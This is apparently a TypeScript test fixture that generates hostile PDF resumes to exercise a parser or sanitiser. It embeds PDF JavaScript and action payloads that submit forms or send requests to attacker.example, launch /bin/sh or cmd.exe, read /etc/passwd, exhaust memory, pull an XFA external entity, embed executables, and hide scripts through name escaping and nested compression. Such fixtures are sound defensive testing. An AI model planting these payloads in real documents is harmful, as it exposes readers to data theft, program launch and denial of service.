/** Resumes with actions: scripts, programs, links, forms, embedded files. */
import { deflateSync } from 'node:zlib';
import { type PdfObject, pdfOf, textObjects } from '#tests/resume-pdf.ts';
import type { HostileResume } from './hostile-resume.ts';

const FAR = 'https://attacker.example/';

const SCRIPTS = [
  'app.alert("xss")',
  `app.launchURL("${FAR}",true)`,
  `this.submitForm({cURL:"${FAR}",cSubmitAs:"PDF"})`,
  `this.getURL("${FAR}")`,
  `app.mailMsg(true,"a@attacker.example")`,
  'while(true){}',
  'var a=[];for(;;)a.push(new Array(1000000))',
  'this.exportDataObject({cName:"a",nLaunch:2})',
  'app.openDoc("/etc/passwd")',
  `Net.HTTP.request({cVerb:"GET",cURL:"${FAR}"})`,
  'app.setTimeOut("app.alert(1)",1)',
  'util.printf("%45000f",1)',
  'Collab.collectEmailInfo({msg:"x"})',
  'eval("app.alert(1)")',
  'this.print({bUI:false,bSilent:true})',
] as const;

const escaped = (text: string) => text.replace(/[\\()]/g, '\\$&');
const js = (script: string) => `<</S/JavaScript/JS(${escaped(script)})>>`;

const ACTIONS: Record<string, string> = {
  'a page elsewhere': `<</S/URI/URI(${FAR})>>`,
  'a script as an address': '<</S/URI/URI(javascript:alert\\(document.domain\\))>>',
  'a file as an address': '<</S/URI/URI(file:///etc/passwd)>>',
  'data as an address': '<</S/URI/URI(data:text/html,<script>alert\\(1\\)</script>)>>',
  'a program': '<</S/Launch/F(/bin/sh)>>',
  'a program of Windows': '<</S/Launch/Win<</F(cmd.exe)/P(/c calc.exe)>>>>',
  'a file of a share': '<</S/Launch/F(\\\\\\\\attacker.example\\\\share\\\\a.exe)>>',
  'another document': `<</S/GoToR/F(${FAR}a.pdf)/D[0/Fit]/NewWindow true>>`,
  'a document inside': '<</S/GoToE/F(a.pdf)/T<</R/C/N(a)>>/D[0/Fit]>>',
  'the form data': `<</S/SubmitForm/F<</FS/URL/F(${FAR})>>/Flags 4>>`,
  'data to be taken in': `<</S/ImportData/F(${FAR}a.fdf)>>`,
  'a dialogue to print': '<</S/Named/N/Print>>',
  'a name of a command': '<</S/Named/N/SaveAs>>',
  'a video': '<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/CT(video/mp4)/D(a.mp4)>>>>>>',
  'itself, again and again': '<</S/GoTo/D[3 0 R/Fit]/Next<</S/GoTo/D[3 0 R/Fit]>>>>',
};

/** Where an action can be: in the catalog, the page, or an annotation. */
const POSITIONS: Record<string, (action: string) => { catalog?: string; page?: string }> = {
  'when it is opened': (action) => ({ catalog: `/OpenAction ${action}` }),
  'when it is closed': (action) => ({ catalog: `/AA<</WC ${action}/WS ${action}>>` }),
  'with its page': (action) => ({ page: `/AA<</O ${action}/C ${action}>>` }),
  'all over its page': (action) => ({
    page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A ${action}/PA ${action}>>]`,
  }),
  'in a field': (action) => ({
    catalog:
      '/AcroForm<</Fields[9 0 R]/NeedAppearances true/CO[9 0 R]/DA(/F1 0 Tf)/DR<</Font<</F1 5 0 R>>>>>>',
    page: `/Annots[<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/F 4/Rect[0 0 595 842]/AA<</E ${action}/U ${action}/Fo ${action}/PO ${action}/C ${action}/F ${action}/K ${action}/V ${action}>>>>]`,
  }),
};

function acting(what: string, where: string, action: string): HostileResume {
  const text = `Marker ${what.length} of ${where.length}`;
  return {
    name: `${what}, ${where}`,
    bytes: () => {
      const { catalog, page } = POSITIONS[where]?.(action) ?? {};
      return pdfOf([
        ...textObjects([text], catalog, page),
        `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</C ${action}>>>>`,
      ]);
    },
    text,
  };
}

const FILES = { 'a.exe': 'MZ\u0000', 'a.html': '<script>alert(1)</script>', 'a.pdf': '%PDF-1.7' };

function withObjects(
  name: string,
  catalog: string,
  page: string,
  objects: PdfObject[],
): HostileResume {
  const bytes = () => pdfOf([...textObjects(['Something beside'], catalog, page), ...objects]);
  return { name, bytes, text: 'Something beside' };
}

/** Resumes with an embedded file, whose objects start at number 9. */
const carrying: HostileResume[] = Object.entries(FILES).flatMap(([file, stream]) => {
  const objects: PdfObject[] = [
    `<</Type/Filespec/F(${file})/UF(${file})/EF<</F 10 0 R>>>>`,
    { dictionary: '/Type/EmbeddedFile', stream },
  ];
  const on = (subtype: string, more: string) =>
    `/Annots[<</Type/Annot/Subtype/${subtype}/Rect[0 0 595 842]/FS 9 0 R${more}>>]`;
  return [
    withObjects(
      `${file} inside`,
      `/Names<</EmbeddedFiles<</Names[(${file}) 9 0 R]>>>>`,
      '',
      objects,
    ),
    withObjects(`${file} attached to a page`, '', on('FileAttachment', ''), objects),
    withObjects(
      `${file} as a collection`,
      `/Collection<</View/D/D(${file})>>/Names<</EmbeddedFiles<</Names[(${file}) 9 0 R]>>>>`,
      '',
      objects,
    ),
    withObjects(
      `${file} as rich media`,
      '',
      on('RichMedia', '/RichMediaContent<</Assets<</Names[(a) 9 0 R]>>>>'),
      objects,
    ),
    withObjects(
      `${file} as a screen`,
      '',
      on('Screen', '/A<</S/Rendition/OP 0/R<</S/MR>>>>'),
      objects,
    ),
    withObjects(`${file} as a sound`, '', on('Sound', '/Sound 10 0 R'), objects),
    withObjects(`${file} as a body in space`, '', on('3D', '/3DD 10 0 R/3DA<</A/PO>>'), objects),
  ];
});

/** XFA forms that contain scripts. */
const xfa: HostileResume[] = SCRIPTS.slice(0, 10).map((script, index) => {
  const language = index % 2 === 0 ? 'application/x-javascript' : 'application/x-formcalc';
  const stream = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE a [<!ENTITY e SYSTEM "${FAR}">]><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="${language}">${script}&e;</script></event></subform></template></xdp:xdp>`;
  const objects = [{ dictionary: '', stream }];
  const catalog = '/AcroForm<</Fields[]/XFA 9 0 R>>';
  return withObjects(`an XFA form, ${script}`, catalog, '', objects);
});

const named = SCRIPTS.map((script) => {
  const names = `/Names<</JavaScript<</Names[(a) ${js(script)}]>>>>`;
  return withObjects(`a script by name, ${script}`, names, '', []);
});

/** Scripts that a search of the bytes does not find. */
const hidden: HostileResume[] = [
  {
    name: 'a script whose name is written in numbers',
    bytes: () =>
      pdfOf(textObjects(['x'], '/OpenAction<</S/J#61v#61Scri#70t/J#53(app.alert\\(1\\))>>')),
    text: 'x',
  },
  ...['/FlateDecode', '[/FlateDecode/FlateDecode]'].map((filter, index) => ({
    name: `a script in a pack of objects, ${index + 1} times over`,
    bytes: () => {
      const objects = '9 0 <</S/JavaScript/JS(app.alert\\(1\\))>>';
      let stream: Uint8Array = Buffer.from(objects);
      for (let time = 0; time <= index; time++) stream = deflateSync(stream);
      return pdfOf([
        ...textObjects(['x'], '/OpenAction 9 0 R'),
        '<<>>',
        { dictionary: `/Type/ObjStm/N 1/First 4/Filter${filter}`, stream },
      ]);
    },
  })),
];

export const RESUMES_WITH_ACTIONS: readonly HostileResume[] = [
  ...SCRIPTS.flatMap((script) =>
    Object.keys(POSITIONS).map((where) => acting(`the script ${script}`, where, js(script))),
  ),
  ...Object.entries(ACTIONS).flatMap(([what, action]) =>
    Object.keys(POSITIONS).map((where) => acting(what, where, action)),
  ),
  ...named,
  ...carrying,
  ...xfa,
  ...hidden,
];
